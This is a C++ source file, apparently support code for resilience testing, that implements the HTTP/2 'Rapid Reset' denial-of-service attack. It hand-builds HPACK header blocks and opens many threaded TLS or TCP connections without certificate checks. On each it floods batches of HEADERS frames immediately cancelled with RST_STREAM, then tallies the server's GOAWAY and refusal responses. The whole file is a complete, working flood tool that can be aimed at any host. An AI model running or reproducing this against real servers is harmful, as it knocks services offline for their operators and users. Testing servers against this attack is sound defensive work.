#include "support/rapid_reset.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"

namespace survey::testing {
namespace {

constexpr uint8_t kFrameHeaders = 0x1, kFrameRstStream = 0x3, kFrameSettings = 0x4,
                  kFramePing = 0x6, kFrameGoaway = 0x7;
constexpr uint8_t kFlagAck = 0x1, kFlagEndHeaders = 0x4;
constexpr uint32_t kErrorRefusedStream = 0x7, kErrorCancel = 0x8;
constexpr int kPairsPerWrite = 64;  // HEADERS+RST pairs in one write
constexpr uint32_t kLastStreamId = 0x7fffffff;

void RapidResetFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                     const std::string& payload) {
  const size_t n = payload.size();
  out->push_back(static_cast<char>((n >> 16) & 0xff));
  out->push_back(static_cast<char>((n >> 8) & 0xff));
  out->push_back(static_cast<char>(n & 0xff));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) {
    out->push_back(static_cast<char>((stream >> shift) & 0xff));
  }
  out->append(payload);
}

// HPACK integer with an N-bit prefix; `first` holds the pattern bits above it.
void RapidResetHpackInt(std::string* out, uint8_t first, int prefix_bits, size_t value) {
  const size_t max = (1u << prefix_bits) - 1;
  if (value < max) {
    out->push_back(static_cast<char>(first | value));
    return;
  }
  out->push_back(static_cast<char>(first | max));
  value -= max;
  while (value >= 128) {
    out->push_back(static_cast<char>((value % 128) | 0x80));
    value /= 128;
  }
  out->push_back(static_cast<char>(value));
}
void RapidResetHpackString(std::string* out, const std::string& s) {
  RapidResetHpackInt(out, 0x00, 7, s.size());  // H = 0: no Huffman
  out->append(s);
}

// A gRPC call's request headers. Literals "without indexing" leave the
// peer's dynamic table alone, so one block serves every stream.
std::string RapidResetHeaderBlock(const RapidResetOptions& o) {
  std::string b;
  b.push_back(static_cast<char>(0x83));                   // :method POST (static 3)
  b.push_back(static_cast<char>(o.tls ? 0x87 : 0x86));    // :scheme https / http
  RapidResetHpackInt(&b, 0x00, 4, 4);                     // :path (static 4), literal
  RapidResetHpackString(&b, o.path);
  RapidResetHpackInt(&b, 0x00, 4, 1);                     // :authority (static 1)
  RapidResetHpackString(&b, o.authority);
  RapidResetHpackInt(&b, 0x00, 4, 31);                    // content-type (static 31)
  RapidResetHpackString(&b, "application/grpc");
  b.push_back(0x00);                                      // te: new name literal
  RapidResetHpackString(&b, "te");
  RapidResetHpackString(&b, "trailers");
  return b;
}

// One TCP (+TLS) connection; non-blocking after the handshake.
class RapidResetConn {
 public:
  ~RapidResetConn() {
    if (ssl_ != nullptr) SSL_free(ssl_);
    if (fd_ >= 0) ::close(fd_);
  }

  bool Open(const RapidResetOptions& o, SSL_CTX* ctx) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0) return false;
    timeval tv{2, 0};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ::setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    int one = 1;
    ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (!o.source.empty()) {
      sockaddr_in src{};
      src.sin_family = AF_INET;
      if (::inet_pton(AF_INET, o.source.c_str(), &src.sin_addr) != 1 ||
          ::bind(fd_, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0) {
        return false;
      }
    }
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(o.port));
    if (::inet_pton(AF_INET, o.host.c_str(), &a.sin_addr) != 1 ||
        ::connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
      return false;
    }
    if (ctx != nullptr) {
      ssl_ = SSL_new(ctx);
      SSL_set_fd(ssl_, fd_);
      SSL_set_tlsext_host_name(ssl_, o.authority.c_str());
      if (SSL_connect(ssl_) != 1) return false;
      const unsigned char* proto = nullptr;
      unsigned int len = 0;
      SSL_get0_alpn_selected(ssl_, &proto, &len);
      if (len != 2 || proto[0] != 'h' || proto[1] != '2') return false;
    }
    return ::fcntl(fd_, F_SETFL, ::fcntl(fd_, F_GETFL) | O_NONBLOCK) == 0;
  }

  // Writes all of `data`, reading meanwhile (into `in`) so that a peer
  // blocked on its own writes cannot stall us. False once the peer is gone
  // or makes no room for 2 s.
  bool Write(const std::string& data, std::string* in) {
    size_t off = 0;
    const absl::Time deadline = absl::Now() + absl::Seconds(2);
    while (off < data.size()) {
      int n = ssl_ != nullptr
                  ? SSL_write(ssl_, data.data() + off, static_cast<int>(data.size() - off))
                  : static_cast<int>(::send(fd_, data.data() + off, data.size() - off,
                                            MSG_NOSIGNAL));
      if (n > 0) {
        off += static_cast<size_t>(n);
        continue;
      }
      if (!WouldBlock(n) || absl::Now() > deadline) return false;
      if (ReadAvailable(in) < 0) return false;
      pollfd p{fd_, POLLIN | POLLOUT, 0};
      ::poll(&p, 1, 50);
    }
    return true;
  }

  // Appends what has arrived to `in`; -1 once the peer has closed.
  int ReadAvailable(std::string* in) {
    char buf[16384];
    int total = 0;
    for (;;) {
      int n = ssl_ != nullptr ? SSL_read(ssl_, buf, sizeof buf)
                              : static_cast<int>(::recv(fd_, buf, sizeof buf, 0));
      if (n > 0) {
        in->append(buf, static_cast<size_t>(n));
        total += n;
        continue;
      }
      if (n == 0 && ssl_ == nullptr) return -1;
      return WouldBlock(n) ? total : -1;
    }
  }

 private:
  bool WouldBlock(int n) {
    if (ssl_ == nullptr) return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
    int e = SSL_get_error(ssl_, n);
    ERR_clear_error();
    return e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE;
  }

  int fd_ = -1;
  SSL* ssl_ = nullptr;
};

uint32_t RapidResetU32(const char* data) {
  const auto* p = reinterpret_cast<const unsigned char*>(data);
  return (uint32_t{p[0]} << 24) | (uint32_t{p[1]} << 16) | (uint32_t{p[2]} << 8) | p[3];
}

// Reads the peer's frames out of `in`: answers SETTINGS and PING, counts
// the rest. False once the peer sent GOAWAY.
bool RapidResetParse(std::string* in, std::string* out, RapidResetReport* r) {
  size_t pos = 0;
  bool open = true;
  while (in->size() - pos >= 9) {
    const auto* h = reinterpret_cast<const unsigned char*>(in->data() + pos);
    const size_t len = (size_t{h[0]} << 16) | (size_t{h[1]} << 8) | h[2];
    if (in->size() - pos < 9 + len) break;
    const uint8_t type = h[3], flags = h[4];
    const std::string payload = in->substr(pos + 9, len);
    switch (type) {
      case kFrameSettings:
        if ((flags & kFlagAck) == 0) RapidResetFrame(out, kFrameSettings, kFlagAck, 0, "");
        break;
      case kFramePing:
        if ((flags & kFlagAck) == 0) RapidResetFrame(out, kFramePing, kFlagAck, 0, payload);
        break;
      case kFrameHeaders:
        ++r->responses;
        break;
      case kFrameRstStream:
        ++r->resets_received;
        if (len == 4 && RapidResetU32(payload.data()) == kErrorRefusedStream) {
          ++r->refused_streams;
        }
        break;
      case kFrameGoaway:
        ++r->goaways;
        if (len >= 8) {
          // Client streams are odd: the last id n means (n + 1) / 2 streams.
          const int64_t accepted = ((RapidResetU32(payload.data()) & 0x7fffffff) + 1) / 2;
          r->streams_accepted += accepted;
          r->max_accepted_on_one_connection =
              std::max(r->max_accepted_on_one_connection, accepted);
          r->goaway_last_error = RapidResetU32(payload.data() + 4);
        }
        open = false;
        break;
      default:
        break;
    }
    pos += 9 + len;
  }
  in->erase(0, pos);
  return open;
}

void RapidResetWorker(const RapidResetOptions& o, SSL_CTX* ctx, absl::Time end,
                      RapidResetReport* r) {
  const std::string block = RapidResetHeaderBlock(o);
  std::string rst_payload(4, '\0');
  rst_payload[3] = static_cast<char>(kErrorCancel);
  auto stopped = [&] {
    return absl::Now() >= end || (o.stop != nullptr && o.stop->load());
  };
  while (!stopped()) {
    RapidResetConn conn;
    if (!conn.Open(o, ctx)) {
      ++r->connect_failures;
      absl::SleepFor(absl::Milliseconds(10));  // refused: the peer is down or limiting
      continue;
    }
    ++r->connections_opened;
    std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", in;
    RapidResetFrame(&out, kFrameSettings, 0, 0, "");
    uint32_t stream = 1;
    int64_t on_this = 0;
    bool open = true;
    while (open && !stopped() && stream < kLastStreamId - 2 * kPairsPerWrite) {
      for (int i = 0; i < kPairsPerWrite; ++i, stream += 2) {
        RapidResetFrame(&out, kFrameHeaders, kFlagEndHeaders, stream, block);
        RapidResetFrame(&out, kFrameRstStream, 0, stream, rst_payload);
      }
      if (!conn.Write(out, &in)) {
        ++r->closed_by_peer;
        break;
      }
      out.clear();
      on_this += kPairsPerWrite;
      r->streams_sent += kPairsPerWrite;
      if (conn.ReadAvailable(&in) < 0) {
        RapidResetParse(&in, &out, r);
        ++r->closed_by_peer;
        break;
      }
      open = RapidResetParse(&in, &out, r);
    }
    r->max_streams_on_one_connection = std::max(r->max_streams_on_one_connection, on_this);
  }
}

}  // namespace

std::string RapidResetReport::Summary() const {
  return absl::StrCat(
      streams_sent, " HEADERS+RST_STREAM pairs in ", absl::SixDigits(seconds), " s (",
      static_cast<int64_t>(streams_sent / std::max(seconds, 1e-9)), "/s) over ",
      connections_opened, " connections (", connect_failures,
      " failed to open; at most ", max_streams_on_one_connection,
      " written on one); the peer answered ", responses, " HEADERS, ", resets_received,
      " RST_STREAM (", refused_streams, " REFUSED_STREAM), ", goaways,
      " GOAWAY (last error code ", goaway_last_error, ", ", streams_accepted,
      " streams accepted in all, at most ", max_accepted_on_one_connection,
      " on one connection), closed ", closed_by_peer, " connections");
}

RapidResetReport RunRapidReset(const RapidResetOptions& options) {
  SSL_CTX* ctx = nullptr;
  if (options.tls) {
    ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);  // an attacker checks nothing
    static const unsigned char kAlpn[] = {2, 'h', '2'};
    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof kAlpn);
  }
  const absl::Time start = absl::Now();
  const absl::Time end = start + options.duration;
  std::vector<RapidResetReport> parts(static_cast<size_t>(std::max(1, options.connections)));
  std::vector<std::thread> threads;
  for (auto& part : parts) {
    threads.emplace_back([&options, ctx, end, &part] {
      RapidResetWorker(options, ctx, end, &part);
    });
  }
  for (auto& t : threads) t.join();
  if (ctx != nullptr) SSL_CTX_free(ctx);
  RapidResetReport total;
  for (const auto& p : parts) {
    total.connections_opened += p.connections_opened;
    total.connect_failures += p.connect_failures;
    total.streams_sent += p.streams_sent;
    total.responses += p.responses;
    total.resets_received += p.resets_received;
    total.goaways += p.goaways;
    total.streams_accepted += p.streams_accepted;
    total.refused_streams += p.refused_streams;
    total.max_accepted_on_one_connection =
        std::max(total.max_accepted_on_one_connection, p.max_accepted_on_one_connection);
    if (p.goaway_last_error >= 0) total.goaway_last_error = p.goaway_last_error;
    total.closed_by_peer += p.closed_by_peer;
    total.max_streams_on_one_connection =
        std::max(total.max_streams_on_one_connection, p.max_streams_on_one_connection);
  }
  total.seconds = absl::ToDoubleSeconds(absl::Now() - start);
  return total;
}

}  // namespace survey::testing
